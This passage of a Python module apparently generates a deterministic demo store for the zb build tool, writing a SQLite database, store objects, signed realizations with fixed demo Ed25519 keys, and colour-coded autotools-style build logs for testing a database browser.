"""Build a realistic, deterministic demo zb store: database, store directory and logs.

The result exercises everything a browser of zb's backend database must
handle (``shared/spec/zb-format.md``): a shared dependency DAG rooted in glibc,
self-references, objects missing on disk, paths known but absent, several
output paths for one realization, reference classes (with a duplicated NULL
row), real Ed25519 signatures in every status, builds in every state including
orphans, and build logs laid out exactly as zb writes them, some of them
hostile to a terminal.

Everything random comes from ``random.Random(seed)``, and every time from
``now_ms``, so two builds with the same arguments write the same rows (store
paths differ only by the ``root`` they live under).

Nothing here is used by the read-only layer: it only writes.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import random
import time
import uuid
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any, Literal

import apsw
from nacl.signing import SigningKey

from zbtui.demo.schema import create_zb_database
from zbtui.store.formats import nix32_encode
from zbtui.store.signatures import sign_zb_realization, zb_realization_message

__all__ = [
    "DEFAULT_LOGICAL_STORE_DIR",
    "TRUSTED_SEED",
    "UNTRUSTED_SEED",
    "DemoStore",
    "build_demo_store",
    "build_log_lines",
    "log_path_for",
    "uuid7",
]

DEFAULT_LOGICAL_STORE_DIR = "/opt/zb/store"
"""zb's default Unix store directory; shown in generated ``.drv`` text only."""

# Fixed seeds so that a user can put the demo's trusted key in a config file
# once and have it work for every demo store.
TRUSTED_SEED = hashlib.sha256(b"zbtui demo: trusted build server signing key").digest()
"""Ed25519 seed of the demo's "build server" key (the key a user trusts)."""

UNTRUSTED_SEED = hashlib.sha256(b"zbtui demo: untrusted binary cache signing key").digest()
"""Ed25519 seed of a "binary cache" key that the demo user does not trust."""

NONSENSE_FORMAT = "nonsense"
"""A signature format zb does not define; zb's own tests use this string."""

HEARTBEAT_ALIVE_AGE_MS = 1_000
HEARTBEAT_STALE_AGE_MS = 40_000
"""A crash 40 s before "now": long enough to be stale (> 10 s), recent enough
that the unfinished build started just before it is plainly its victim."""

_MINUTE = 60_000
_HOUR = 60 * _MINUTE
_DAY = 24 * _HOUR


@dataclass(frozen=True)
class DemoStore:
    """Where a demo store lives and what is true about it.

    Attributes:
        root: The directory everything was created under.
        db_path: ``<root>/var/zb/db.sqlite``.
        store_dir: The real store directory, where the objects' files are.
        logical_store_dir: The directory the database's store paths name;
            the same as ``store_dir`` unless the builder was told otherwise.
        log_dir: ``<root>/var/log/zb``, laid out as zb lays out build logs.
        trusted_key_b64: Standard base64 of the trusted Ed25519 public key,
            ready for a ``trustedPublicKeys`` entry.
        untrusted_key_b64: Standard base64 of the cache key nobody trusts.
        signing_seeds: ``{"trusted": seed, "untrusted": seed}`` (32-byte
            Ed25519 seeds), so a simulated server can sign new realizations.
        now_ms: The reference "now" every time in the store is relative to.
        facts: Ground truth for tests (see `build_demo_store`).
    """

    root: str
    db_path: str
    store_dir: str
    log_dir: str
    logical_store_dir: str
    trusted_key_b64: str
    untrusted_key_b64: str
    signing_seeds: dict[str, bytes] = field(repr=False)
    now_ms: int
    facts: dict[str, Any] = field(repr=False)


# --------------------------------------------------------------------------
# Small helpers shared with the live simulator
# --------------------------------------------------------------------------


def uuid7(ms: int, rng: random.Random) -> uuid.UUID:
    """A UUIDv7 whose timestamp is ``ms``, so the log bucket ``uuid[0:4]`` is right.

    Args:
        ms: Milliseconds since the Unix epoch.
        rng: Source of the 74 random bits.

    Returns:
        The UUID (RFC 9562 layout: 48-bit time, version 7, variant 0b10).
    """
    value = (ms & ((1 << 48) - 1)) << 80
    value |= 0x7 << 76
    value |= rng.getrandbits(12) << 64
    value |= 0b10 << 62
    value |= rng.getrandbits(62)
    return uuid.UUID(int=value)


def log_path_for(log_dir: str, build_uuid: uuid.UUID | str, drv_path: str) -> str:
    """Where zb writes the builder log of one derivation in one build.

    ``<log_dir>/<uuid[0:4]>/<uuid>/<drv base name without .drv>.txt`` (spec §1.9).
    """
    text = str(build_uuid)
    base = os.path.basename(drv_path).removesuffix(".drv")
    return os.path.join(log_dir, text[:4], text, base + ".txt")


def public_key_of(seed: bytes) -> bytes:
    """The 32-byte Ed25519 public key of a 32-byte seed."""
    return bytes(SigningKey(seed).verify_key)


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode("ascii")


def _sri_sha256(rng: random.Random) -> str:
    return "sha256-" + _b64(rng.randbytes(32))


def _nix32_sha256(rng: random.Random) -> str:
    return nix32_encode(rng.randbytes(32))


# --------------------------------------------------------------------------
# Log text
# --------------------------------------------------------------------------

# SGR sequences as GCC, automake test drivers and make print them.
_GREEN = "\x1b[0;32m"
_RED = "\x1b[0;31m"
_BOLD = "\x1b[1m"
_MAGENTA_BOLD = "\x1b[01;35m"
_RESET = "\x1b[0m"
_RESET_SHORT = "\x1b[m"


def build_log_lines(
    name: str,
    out_path: str,
    store_paths: dict[str, str],
    rng: random.Random,
    *,
    cores: int = 8,
) -> list[str]:
    """Realistic builder output for one derivation, one string per line.

    Mimics a GNU autotools package built by a Nixpkgs-style ``setup.sh``:
    unpack, configure checks, compiler lines with a coloured warning, a
    coloured test summary and the fixup phase.

    Args:
        name: Derivation name, e.g. ``hello-2.12.1``.
        out_path: The output path the build writes to.
        store_paths: Tool name → store path, for ``checking for gcc...`` lines.
        rng: Randomness for counts and file names.
        cores: ``-j`` shown on the make line.

    Returns:
        Lines without trailing newlines.
    """
    pname = name.rsplit("-", 1)[0]
    coreutils = store_paths.get("coreutils", DEFAULT_LOGICAL_STORE_DIR + "/coreutils")
    gcc = store_paths.get("gcc", DEFAULT_LOGICAL_STORE_DIR + "/gcc")
    bash = store_paths.get("bash", DEFAULT_LOGICAL_STORE_DIR + "/bash")
    lines = [
        f"unpacking source archive {store_paths.get('src', name + '.tar.gz')}",
        f"source root is {name}",
        f"setting SOURCE_DATE_EPOCH to timestamp 1709251200 of file {name}/ChangeLog",
        "patching sources",
        "updateAutotoolsGnuConfigScriptsPhase",
        "configuring",
        f"configure flags: --disable-static --disable-dependency-tracking --prefix={out_path}",
        f"checking for a BSD-compatible install... {coreutils}/bin/install -c",
        "checking whether build environment is sane... yes",
        f"checking for a race-free mkdir -p... {coreutils}/bin/mkdir -p",
        "checking for gawk... gawk",
        "checking whether make sets $(MAKE)... yes",
        f"checking for gcc... {gcc}/bin/gcc",
        "checking whether the C compiler works... yes",
        "checking for C compiler default output file name... a.out",
        "checking for suffix of executables... ",
        "checking whether we are cross compiling... no",
        "checking for suffix of object files... o",
        "checking whether the compiler supports GNU C... yes",
        f"checking whether {gcc}/bin/gcc accepts -g... yes",
        "checking for stdio.h... yes",
        "checking for stdlib.h... yes",
        "checking for string.h... yes",
        "checking for unistd.h... yes",
        "checking size of long... 8",
        "configure: creating ./config.status",
        "config.status: creating Makefile",
        "config.status: creating config.h",
        "building",
        f"build flags: -j{cores} SHELL={bash}/bin/bash",
    ]
    stems = [
        "main",
        "util",
        "parse",
        "io",
        "hash",
        "buffer",
        "error",
        "options",
        "compat",
        "version",
    ]
    objects = rng.sample(stems, k=rng.randint(5, len(stems)))
    for stem in objects:
        lines.append(f"  CC       src/{pname}-{stem}.o")
    warn = rng.choice(objects)
    lines += [
        (
            f"{_BOLD}src/{warn}.c:{rng.randint(40, 900)}:{rng.randint(3, 30)}:{_RESET_SHORT} "
            f"{_MAGENTA_BOLD}warning: {_RESET_SHORT}unused variable '{_BOLD}tmp{_RESET_SHORT}' "
            f"[{_MAGENTA_BOLD}-Wunused-variable{_RESET_SHORT}]"
        ),
        f"  CCLD     {pname}",
        "running tests",
        "check flags: -j8 VERBOSE=y check",
    ]
    ntests = rng.randint(3, 7)
    for i in range(1, ntests + 1):
        lines.append(f"{_GREEN}PASS{_RESET}: tests/{pname}-{i}")
    lines += [
        f"{_GREEN}============================================================================{_RESET}",
        f"{_GREEN}Testsuite summary for {pname} {name.rsplit('-', 1)[-1]}{_RESET}",
        f"{_GREEN}============================================================================{_RESET}",
        f"# TOTAL: {ntests}",
        f"# PASS:  {ntests}",
        "# SKIP:  0",
        "# XFAIL: 0",
        "# FAIL:  0",
        "installing",
        f"install flags: -j{cores} SHELL={bash}/bin/bash install",
        f" {coreutils}/bin/mkdir -p '{out_path}/bin'",
        f"  /usr/bin/install -c {pname} '{out_path}/bin'",
        "post-installation fixup",
        f"shrinking RPATHs of ELF executables and libraries in {out_path}",
        f"shrinking {out_path}/bin/{pname}",
        f"checking for references to /build/ in {out_path}...",
        f"patching script interpreter paths in {out_path}",
        f"stripping (with command strip and flags -S -p) in  {out_path}/bin",
    ]
    return lines


def _write_log(path: str, data: bytes, mtime_ms: int | None = None) -> None:
    os.makedirs(os.path.dirname(path), exist_ok=True)
    # O_EXCL as zb creates the file: a clash is a bug in the generator.
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
    with os.fdopen(fd, "wb") as f:
        f.write(data)
    if mtime_ms is not None:
        # The last write of a log is when its builder stopped writing: keeps
        # "last log write … ago" true to the story and the same on every run.
        os.utime(path, ns=(mtime_ms * 1_000_000, mtime_ms * 1_000_000))


# --------------------------------------------------------------------------
# The package set
# --------------------------------------------------------------------------


@dataclass(frozen=True)
class _Pkg:
    """One derivation of the demo's package set.

    ``runtime`` maps each output to its references: ``"pkg:output"`` for
    another package's output, ``"src:<name>"`` for a source, ``"self"`` for a
    self-reference.
    """

    name: str
    outputs: dict[str, int]
    inputs: tuple[str, ...]
    runtime: dict[str, tuple[str, ...]]
    builder_s: int
    tarball: str | None
    flat_fetch: bool = False
    extra_sources: tuple[str, ...] = ()


_G = "glibc-2.39:out"

# name → package; dependency order (inputs always appear earlier).
# fmt: off
_PACKAGES: tuple[_Pkg, ...] = (
    _Pkg("linux-headers-6.6", {"out": 6_900_000}, (), {"out": ()}, 40,
         "linux-6.6.tar.xz", flat_fetch=True),
    _Pkg("glibc-2.39", {"out": 31_000_000, "dev": 2_500_000}, ("linux-headers-6.6",),
         {"out": ("self",), "dev": (_G, "linux-headers-6.6:out")}, 380, "glibc-2.39.tar.xz"),
    _Pkg("binutils-2.42", {"out": 29_000_000}, ("glibc-2.39",),
         {"out": (_G, "self")}, 240, "binutils-2.42.tar.xz"),
    _Pkg("gmp-6.3.0", {"out": 1_100_000, "dev": 250_000}, ("glibc-2.39", "binutils-2.42"),
         {"out": (_G,), "dev": ("gmp-6.3.0:out",)}, 120, "gmp-6.3.0.tar.xz"),
    _Pkg("gcc-13.2.0", {"out": 160_000_000, "lib": 8_300_000},
         ("glibc-2.39", "binutils-2.42", "gmp-6.3.0"),
         {"out": (_G, "glibc-2.39:dev", "binutils-2.42:out", "gmp-6.3.0:out",
                  "gcc-13.2.0:lib", "self"),
          "lib": (_G, "self")}, 1500, "gcc-13.2.0.tar.xz"),
    _Pkg("ncurses-6.4", {"out": 3_400_000, "dev": 1_200_000},
         ("gcc-13.2.0", "glibc-2.39", "binutils-2.42"),
         {"out": (_G, "self"), "dev": ("ncurses-6.4:out",)}, 95, "ncurses-6.4.tar.gz"),
    _Pkg("readline-8.2", {"out": 950_000, "dev": 420_000},
         ("ncurses-6.4", "gcc-13.2.0", "glibc-2.39"),
         {"out": ("ncurses-6.4:out", _G, "self"),
          "dev": ("readline-8.2:out", "ncurses-6.4:dev")}, 35, "readline-8.2.tar.gz"),
    _Pkg("bash-5.2p26", {"out": 5_600_000},
         ("readline-8.2", "ncurses-6.4", "gcc-13.2.0", "glibc-2.39"),
         {"out": ("readline-8.2:out", "ncurses-6.4:out", _G, "self")}, 110, "bash-5.2.tar.gz"),
    _Pkg("coreutils-9.4", {"out": 7_800_000}, ("gcc-13.2.0", "glibc-2.39", "gmp-6.3.0"),
         {"out": (_G, "gmp-6.3.0:out", "self")}, 190, "coreutils-9.4.tar.xz"),
    _Pkg("gnumake-4.4.1", {"out": 1_700_000}, ("gcc-13.2.0", "glibc-2.39"),
         {"out": (_G,)}, 45, "make-4.4.1.tar.gz"),
    _Pkg("stdenv-linux", {"out": 42_000},
         ("bash-5.2p26", "coreutils-9.4", "gnumake-4.4.1", "gcc-13.2.0", "binutils-2.42"),
         {"out": ("src:setup.sh", "bash-5.2p26:out", "coreutils-9.4:out", "gnumake-4.4.1:out",
                  "gcc-13.2.0:out", "binutils-2.42:out")}, 2, None,
         extra_sources=("setup.sh",)),
    _Pkg("zlib-1.3.1", {"out": 130_000, "dev": 190_000}, ("stdenv-linux",),
         {"out": (_G,), "dev": ("zlib-1.3.1:out",)}, 14, "zlib-1.3.1.tar.gz"),
    _Pkg("xz-5.4.6", {"out": 1_050_000}, ("stdenv-linux",),
         {"out": (_G, "self")}, 60, "xz-5.4.6.tar.xz"),
    _Pkg("expat-2.6.2", {"out": 420_000, "dev": 160_000}, ("stdenv-linux",),
         {"out": (_G,), "dev": ("expat-2.6.2:out",)}, 25, "expat-2.6.2.tar.xz"),
    _Pkg("perl-5.38.2", {"out": 58_000_000}, ("stdenv-linux", "zlib-1.3.1"),
         {"out": (_G, "zlib-1.3.1:out", "self")}, 420, "perl-5.38.2.tar.gz"),
    _Pkg("openssl-3.0.13", {"out": 6_100_000, "dev": 3_200_000, "bin": 1_300_000},
         ("stdenv-linux", "perl-5.38.2", "zlib-1.3.1"),
         {"out": (_G, "self"), "dev": ("openssl-3.0.13:out",),
          "bin": ("openssl-3.0.13:out", _G, "perl-5.38.2:out")}, 300, "openssl-3.0.13.tar.gz"),
    _Pkg("libffi-3.4.6", {"out": 110_000, "dev": 95_000}, ("stdenv-linux",),
         {"out": (_G,), "dev": ("libffi-3.4.6:out",)}, 30, "libffi-3.4.6.tar.gz"),
    _Pkg("sqlite-3.45.1", {"out": 1_800_000, "dev": 320_000, "bin": 1_600_000},
         ("stdenv-linux", "zlib-1.3.1", "readline-8.2", "ncurses-6.4"),
         {"out": (_G, "zlib-1.3.1:out", "self"), "dev": ("sqlite-3.45.1:out",),
          "bin": ("sqlite-3.45.1:out", "readline-8.2:out", "ncurses-6.4:out", _G)},
         140, "sqlite-autoconf-3450100.tar.gz"),
    _Pkg("pkg-config-0.29.2", {"out": 450_000}, ("stdenv-linux",),
         {"out": (_G,)}, 40, "pkg-config-0.29.2.tar.gz"),
    _Pkg("python3-3.11.9", {"out": 110_000_000},
         ("stdenv-linux", "zlib-1.3.1", "openssl-3.0.13", "libffi-3.4.6", "xz-5.4.6",
          "ncurses-6.4", "readline-8.2", "sqlite-3.45.1", "expat-2.6.2", "pkg-config-0.29.2"),
         {"out": (_G, "gcc-13.2.0:lib", "zlib-1.3.1:out", "openssl-3.0.13:out",
                  "libffi-3.4.6:out", "xz-5.4.6:out", "ncurses-6.4:out", "readline-8.2:out",
                  "sqlite-3.45.1:out", "expat-2.6.2:out", "bash-5.2p26:out", "self")},
         600, "Python-3.11.9.tar.xz"),
    _Pkg("curl-8.7.1", {"out": 1_200_000, "dev": 420_000, "bin": 380_000},
         ("stdenv-linux", "openssl-3.0.13", "zlib-1.3.1", "pkg-config-0.29.2", "perl-5.38.2"),
         {"out": (_G, "openssl-3.0.13:out", "zlib-1.3.1:out", "self"),
          "dev": ("curl-8.7.1:out", "openssl-3.0.13:dev", "zlib-1.3.1:dev"),
          "bin": ("curl-8.7.1:out", _G)}, 150, "curl-8.7.1.tar.xz", flat_fetch=True),
    _Pkg("hello-2.12.1", {"out": 210_000}, ("stdenv-linux",), {"out": (_G,)}, 25,
         "hello-2.12.1.tar.gz"),
)
# fmt: on

# Realizations that came from a binary cache signed by the untrusted key;
# their builds show them as reused (substituted), with no log.
_IMPORTED = ("perl-5.38.2", "openssl-3.0.13")

# Objects whose row exists but whose files are gone (exercises "present on disk").
_NOT_ON_DISK = ("openssl-3.0.13:bin", "sqlite-3.45.1:bin", "tarball:perl-5.38.2", "drv:gmp-6.3.0")


def _output_object_name(pkg: _Pkg, output: str) -> str:
    return pkg.name if output == "out" else f"{pkg.name}-{output}"


def _jitter(rng: random.Random, size: int) -> int:
    return max(1, int(size * rng.uniform(0.9, 1.1)))


# --------------------------------------------------------------------------
# The builder
# --------------------------------------------------------------------------


@dataclass
class _Result:
    """One planned ``build_results`` row.

    ``kind`` decides the stored status and times: ``built`` (success, builder
    ran, log), ``reused`` (success, no builder, no log), ``fail`` / ``error``
    (builder ran, then the result ended so), ``active`` (builder started, not
    ended) and ``queued`` (``active`` before the builder started).
    """

    drv: str
    kind: Literal["built", "reused", "fail", "error", "active", "queued"]
    drv_hash: int | None
    outputs: dict[str, str | None]
    log: bytes | None = None
    builder_s: int = 0


class _Writer:
    """Accumulates rows in one open transaction and mirrors them in memory."""

    def __init__(
        self, conn: apsw.Connection, store_dir: str, log_dir: str, rng: random.Random, logical_store_dir: str | None = None
    ):
        self.conn = conn
        self.store_dir = store_dir
        self.logical_store_dir = logical_store_dir or store_dir
        self.log_dir = log_dir
        self.rng = rng
        self.path_ids: dict[str, int] = {}
        self.objects: dict[str, int] = {}  # path -> nar_size
        self.refs: dict[str, list[str]] = {}  # object path -> references (self included)
        self.drv_hash_ids: dict[bytes, int] = {}
        self.drv_hash_bits: dict[int, bytes] = {}
        self.realizations: set[tuple[int, str, str]] = set()
        self.rc_rows = 0
        self.sig_rows = 0
        self.sig_status: dict[str, int] = {
            "trusted": 0,
            "valid-untrusted": 0,
            "invalid": 0,
            "unsupported": 0,
            "malformed": 0,
        }
        self.key_ids: dict[tuple[str, bytes], int] = {}
        self.not_on_disk: list[str] = []
        self.log_files: list[str] = []
        self.build_count = 0
        self.result_count = 0
        self.output_rows = 0

    # -- string tables ----------------------------------------------------

    def make_path(self, name: str) -> str:
        return f"{self.logical_store_dir}/{nix32_encode(self.rng.randbytes(20))}-{name}"

    def real_path(self, path: str) -> str:
        """Where a store path's files are: under the real store directory."""
        return self.store_dir + path[len(self.logical_store_dir) :]

    def path_id(self, path: str) -> int:
        pid = self.path_ids.get(path)
        if pid is None:
            self.conn.execute('insert into "paths" ("path") values (?)', (path,))
            pid = self.conn.last_insert_rowid()
            self.path_ids[path] = pid
        return pid

    def drv_hash(self, bits: bytes, algorithm: str = "sha256") -> int:
        hid = self.drv_hash_ids.get(bits)
        if hid is None:
            self.conn.execute(
                'insert into "drv_hashes" ("algorithm", "bits") values (?, ?)', (algorithm, bits)
            )
            hid = self.conn.last_insert_rowid()
            self.drv_hash_ids[bits] = hid
            self.drv_hash_bits[hid] = bits
        return hid

    def key_id(self, fmt: str, public_key: bytes) -> int:
        kid = self.key_ids.get((fmt, public_key))
        if kid is None:
            self.conn.execute(
                'insert into "signature_public_keys" ("format", "public_key") values (?, ?)',
                (fmt, public_key),
            )
            kid = self.conn.last_insert_rowid()
            self.key_ids[(fmt, public_key)] = kid
        return kid

    # -- objects ------------------------------------------------------------

    def add_object(
        self,
        path: str,
        nar_size: int,
        ca: str,
        refs: Sequence[str],
        *,
        content: bytes | None = None,
        directory: bool = True,
        on_disk: bool = True,
    ) -> None:
        """Insert an object, its references, and (unless told not to) its files."""
        pid = self.path_id(path)
        self.conn.execute(
            'insert into "objects" ("id", "nar_size", "nar_hash", "ca") values (?, ?, ?, ?)',
            (pid, nar_size, _sri_sha256(self.rng), ca),
        )
        for ref in refs:
            self.conn.execute(
                'insert into "references" ("referrer", "reference") values (?, ?)',
                (pid, self.path_id(ref)),
            )
        self.objects[path] = nar_size
        self.refs[path] = list(refs)
        if not on_disk:
            self.not_on_disk.append(path)
            return
        if content is None:
            content = _placeholder_content(path, refs)
        real = self.real_path(path)
        if directory:
            os.makedirs(real, exist_ok=False)
            with open(os.path.join(real, "README.zbtui-demo"), "wb") as f:
                f.write(content)
        else:
            with open(real, "wb") as f:
                f.write(content)

    # -- realizations ---------------------------------------------------------

    def add_realization(
        self,
        drv_hash: int,
        output_name: str,
        output_path: str,
        ref_classes: Sequence[tuple[str, int | None, str | None]],
    ) -> None:
        """Insert a realization and its reference-class rows (as given, duplicates too)."""
        out_id = self.path_id(output_path)
        self.conn.execute(
            'insert into "realizations" ("drv_hash", "output_name", "output_path")'
            " values (?, ?, ?)",
            (drv_hash, output_name, out_id),
        )
        self.realizations.add((drv_hash, output_name, output_path))
        for ref_path, ref_hash, ref_output in ref_classes:
            self.conn.execute(
                'insert into "reference_classes" ("referrer", "referrer_drv_hash",'
                ' "referrer_output_name", "reference", "reference_drv_hash",'
                ' "reference_output_name") values (?, ?, ?, ?, ?, ?)',
                (out_id, drv_hash, output_name, self.path_id(ref_path), ref_hash, ref_output),
            )
            self.rc_rows += 1

    def message(
        self,
        drv_hash: int,
        output_name: str,
        output_path: str,
        ref_classes: Iterable[tuple[str, int | None, str | None]],
    ) -> bytes:
        """The exact bytes zb signs, over the DISTINCT reference classes."""
        distinct = list(dict.fromkeys(ref_classes))
        return zb_realization_message(
            "sha256",
            self.drv_hash_bits[drv_hash],
            output_name,
            output_path,
            [
                (
                    p,
                    None if h is None else "sha256",
                    None if h is None else self.drv_hash_bits[h],
                    n,
                )
                for p, h, n in distinct
            ],
        )

    def add_signature(
        self,
        drv_hash: int,
        output_name: str,
        output_path: str,
        key_id: int | None,
        signature: bytes | None,
        status: str,
    ) -> None:
        self.conn.execute(
            'insert into "signatures" ("drv_hash", "output_name", "output_path",'
            ' "public_key_id", "signature") values (?, ?, ?, ?, ?)',
            (drv_hash, output_name, self.path_id(output_path), key_id, signature),
        )
        self.sig_rows += 1
        self.sig_status[status] += 1

    # -- builds ---------------------------------------------------------------

    def add_build(
        self,
        start_ms: int,
        results: Sequence[_Result],
        *,
        end: bool = True,
        internal_error: str | None = None,
        expand: tuple[str, list[str], dict[str, str]] | None = None,
        result_gap_ms: int = 150,
    ) -> tuple[str, int, list[int]]:
        """Insert a build whose results run one after another, with consistent times.

        Returns:
            ``(uuid text, builds.id, [build_results.id ...])``.
        """
        build_uuid = uuid7(start_ms, self.rng)
        self.conn.execute(
            'insert into "builds" ("uuid", "started_at") values (?, ?)',
            (build_uuid.bytes, start_ms),
        )
        build_id = self.conn.last_insert_rowid()
        self.build_count += 1
        clock = start_ms + self.rng.randint(20, 90)
        result_ids: list[int] = []
        for res in results:
            started = clock
            builder_start = builder_end = ended = None
            status = "active"
            if res.kind in ("built", "fail", "error", "active"):
                builder_start = started + self.rng.randint(30, 400)
                if res.kind != "active":
                    builder_end = (
                        builder_start + max(1, res.builder_s) * 1000 + self.rng.randint(0, 999)
                    )
                    ended = builder_end + self.rng.randint(15, 900)
                    status = {"built": "success", "fail": "fail", "error": "error"}[res.kind]
            elif res.kind == "reused":
                ended = started + self.rng.randint(3, 60)
                status = "success"
            self.conn.execute(
                'insert into "build_results" ("build_id", "drv_path", "status", "started_at",'
                ' "builder_started_at", "builder_ended_at", "ended_at", "drv_hash")'
                " values (?, ?, ?, ?, ?, ?, ?, ?)",
                (
                    build_id,
                    self.path_id(res.drv),
                    status,
                    started,
                    builder_start,
                    builder_end,
                    ended,
                    res.drv_hash,
                ),
            )
            rid = self.conn.last_insert_rowid()
            result_ids.append(rid)
            self.result_count += 1
            for output_name, output_path in res.outputs.items():
                self.conn.execute(
                    'insert into "build_outputs" ("result_id", "output_name", "output_path")'
                    " values (?, ?, ?)",
                    (rid, output_name, None if output_path is None else self.path_id(output_path)),
                )
                self.output_rows += 1
            if res.log is not None:
                path = log_path_for(self.log_dir, build_uuid, res.drv)
                last_write = next((t for t in (builder_end, ended, builder_start, started) if t is not None), None)
                _write_log(path, res.log, last_write)
                self.log_files.append(path)
            clock = (ended if ended is not None else started) + self.rng.randint(5, result_gap_ms)
        if end:
            ended_at = clock + self.rng.randint(5, 120)
            self.conn.execute(
                'update "builds" set "ended_at" = ?, "internal_error" = ? where "id" = ?',
                (ended_at, internal_error, build_id),
            )
            if expand is not None:
                builder, args, env = expand
                self.conn.execute(
                    'update "builds" set "expand_builder" = ?, "expand_args" = ?,'
                    ' "expand_env" = ? where "id" = ?',
                    (
                        builder,
                        # Compact and unescaped, as Go's json v2 writes them.
                        json.dumps(args, ensure_ascii=False, separators=(",", ":")),
                        json.dumps(env, ensure_ascii=False, separators=(",", ":")),
                        build_id,
                    ),
                )
        return str(build_uuid), build_id, result_ids


def _placeholder_content(path: str, refs: Sequence[str]) -> bytes:
    lines = [f"zbtui demo store object {os.path.basename(path)}", ""]
    lines += [f"references {r}" for r in refs]
    return ("\n".join(lines) + "\n").encode()


def _drv_text(
    name: str,
    outputs: Sequence[str],
    input_drvs: Mapping[str, Sequence[str]],
    sources: Sequence[str],
    builder: str,
    args: Sequence[str],
    env: dict[str, str],
) -> bytes:
    """ATerm text of a floating content-addressed derivation, as zb writes .drv files."""

    def s(text: str) -> str:
        return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'

    outs = ",".join(f"({s(o)},{s('')},{s('r:sha256')},{s('')})" for o in outputs)
    ins = ",".join(
        f"({s(d)},[{','.join(s(o) for o in sorted(os_))}])" for d, os_ in sorted(input_drvs.items())
    )
    srcs = ",".join(s(p) for p in sorted(sources))
    argv = ",".join(s(a) for a in args)
    envs = ",".join(f"({s(k)},{s(v)})" for k, v in sorted(env.items()))
    return (
        f"Derive([{outs}],[{ins}],[{srcs}],{s('x86_64-linux')},{s(builder)},[{argv}],[{envs}])"
    ).encode()


def _closure(refs: dict[str, list[str]], start: Iterable[str]) -> list[str]:
    """Object-level closure in discovery order (start paths included)."""
    seen: dict[str, None] = {}
    stack = list(start)
    while stack:
        path = stack.pop()
        if path in seen:
            continue
        seen[path] = None
        stack.extend(r for r in refs.get(path, ()) if r not in seen)
    return list(seen)


# --------------------------------------------------------------------------
# Public entry point
# --------------------------------------------------------------------------


def build_demo_store(
    root: str,
    *,
    now_ms: int | None = None,
    seed: int = 1,
    heartbeat: Literal["alive", "stale", "none"] = "alive",
    store_dir: str | None = None,
    logical_store_dir: str | None = None,
) -> DemoStore:
    """Create a demo zb store under ``root``.

    Layout: ``<root>/var/zb/db.sqlite``, the store directory (default
    ``<root>/store``) and ``<root>/var/log/zb``. The database is complete on
    return: WAL checkpointed and truncated, connection closed.

    ``facts`` keys:
        counts: row count of every table, plus ``log_files``.
        packages: name → ``{"drv": path, "drv_hash_b64": ..., "outputs": {name: path}}``.
        sources: source name → path (tarballs, ``builder.sh``, ``setup.sh``, bootstrap).
        absent_paths: sorted paths with a ``paths`` row and no ``objects`` row.
        not_on_disk: object paths whose files were never created.
        self_referencing: sorted object paths that reference themselves.
        self_reference_path: one of them (glibc's ``out``).
        shared_base / shared_base_referrers: glibc's ``out`` and how many other
            objects reference it.
        closures: path → ``{"count", "nar_size"}`` of the object-level closure
            (start included, each path once) for hello, bash, curl and python3.
        chain: ``[bash, readline, ncurses, glibc]`` output paths, each
            referencing the next.
        multi_path_realization: ``{"drv_hash_b64", "output_name", "paths",
            "present", "absent"}`` for hello's ``out`` realized at two paths.
        absent_realization_outputs: realization outputs with no object.
        fixed_output_realizations: flat fixed-output paths (no reference classes).
        duplicate_null_reference_class: ``{"referrer", "reference"}`` whose
            NULL/NULL row is stored twice.
        signature_statuses: expected per-row status counts when only the
            trusted key is trusted.
        signature_cases: case → output path (``tampered``, ``unsupported``,
            ``malformed``, ``duplicate``, ``untrusted_only``, ``both_keys``).
        builds: ``{"total", "by_status"}`` with the find.sql status
            (``active`` covers orphans too).
        build_ids: role → canonical UUID (``pre04``, ``world``, ``active``,
            ``expand``, ``rebuild``, ``internal_error``), plus lists
            ``orphaned``, ``fail`` and ``error``.
        orphaned_build_id / active_build_id: convenience copies.
        pre04_result_ids: ``build_results.id`` rows with NULL ``drv_hash``.
        result_kinds: counts of built / reused / fail / error / active results.
        log_files: sorted absolute log paths.
        non_utf8_log / hostile_log / active_log: specific log paths.
        heartbeat: the stored ``running_as_of`` or None.

    Args:
        root: Directory to create everything in (created if missing).
        now_ms: "Now" in ms since the epoch; the wall clock when None.
        seed: Seed for every random choice.
        heartbeat: ``alive`` (1 s old), ``stale`` (1 h old) or ``none`` (no row).
        store_dir: The store directory; defaults to ``<root>/store``.
        logical_store_dir: The directory store paths name (e.g. ``/opt/zb/store``)
            when it differs from where the files are; open the store with
            ``--store-dir <store_dir>`` then. Defaults to ``store_dir``.

    Returns:
        The `DemoStore`.

    Raises:
        FileExistsError: The database already exists.
    """
    if now_ms is None:
        now_ms = int(time.time() * 1000)
    root = os.path.abspath(root)
    store_dir = os.path.abspath(store_dir or os.path.join(root, "store"))
    db_dir = os.path.join(root, "var", "zb")
    log_dir = os.path.join(root, "var", "log", "zb")
    for d in (store_dir, db_dir, log_dir):
        os.makedirs(d, exist_ok=True)
    db_path = os.path.join(db_dir, "db.sqlite")

    rng = random.Random(seed)
    conn = create_zb_database(db_path)
    w = _Writer(conn, store_dir, log_dir, rng, logical_store_dir)
    facts: dict[str, Any] = {}
    try:
        conn.execute("begin immediate")
        _populate(w, now_ms, heartbeat, facts)
        conn.execute("commit")
        conn.execute("pragma wal_checkpoint(TRUNCATE)")
    except BaseException:
        if not conn.get_autocommit():
            conn.execute("rollback")
        raise
    finally:
        conn.close()

    trusted_pub = public_key_of(TRUSTED_SEED)
    untrusted_pub = public_key_of(UNTRUSTED_SEED)
    return DemoStore(
        root=root,
        db_path=db_path,
        store_dir=store_dir,
        logical_store_dir=logical_store_dir or store_dir,
        log_dir=log_dir,
        trusted_key_b64=_b64(trusted_pub),
        untrusted_key_b64=_b64(untrusted_pub),
        signing_seeds={"trusted": TRUSTED_SEED, "untrusted": UNTRUSTED_SEED},
        now_ms=now_ms,
        facts=facts,
    )


def _populate(w: _Writer, now_ms: int, heartbeat: str, facts: dict[str, Any]) -> None:
    """Write every row; fills ``facts`` as it goes."""
    rng = w.rng
    trusted_pub = public_key_of(TRUSTED_SEED)
    untrusted_pub = public_key_of(UNTRUSTED_SEED)
    trusted_key = w.key_id("ed25519", trusted_pub)
    untrusted_key = w.key_id("ed25519", untrusted_pub)
    nonsense_key = w.key_id(NONSENSE_FORMAT, rng.randbytes(48))

    # ---- sources -----------------------------------------------------------
    sources: dict[str, str] = {}
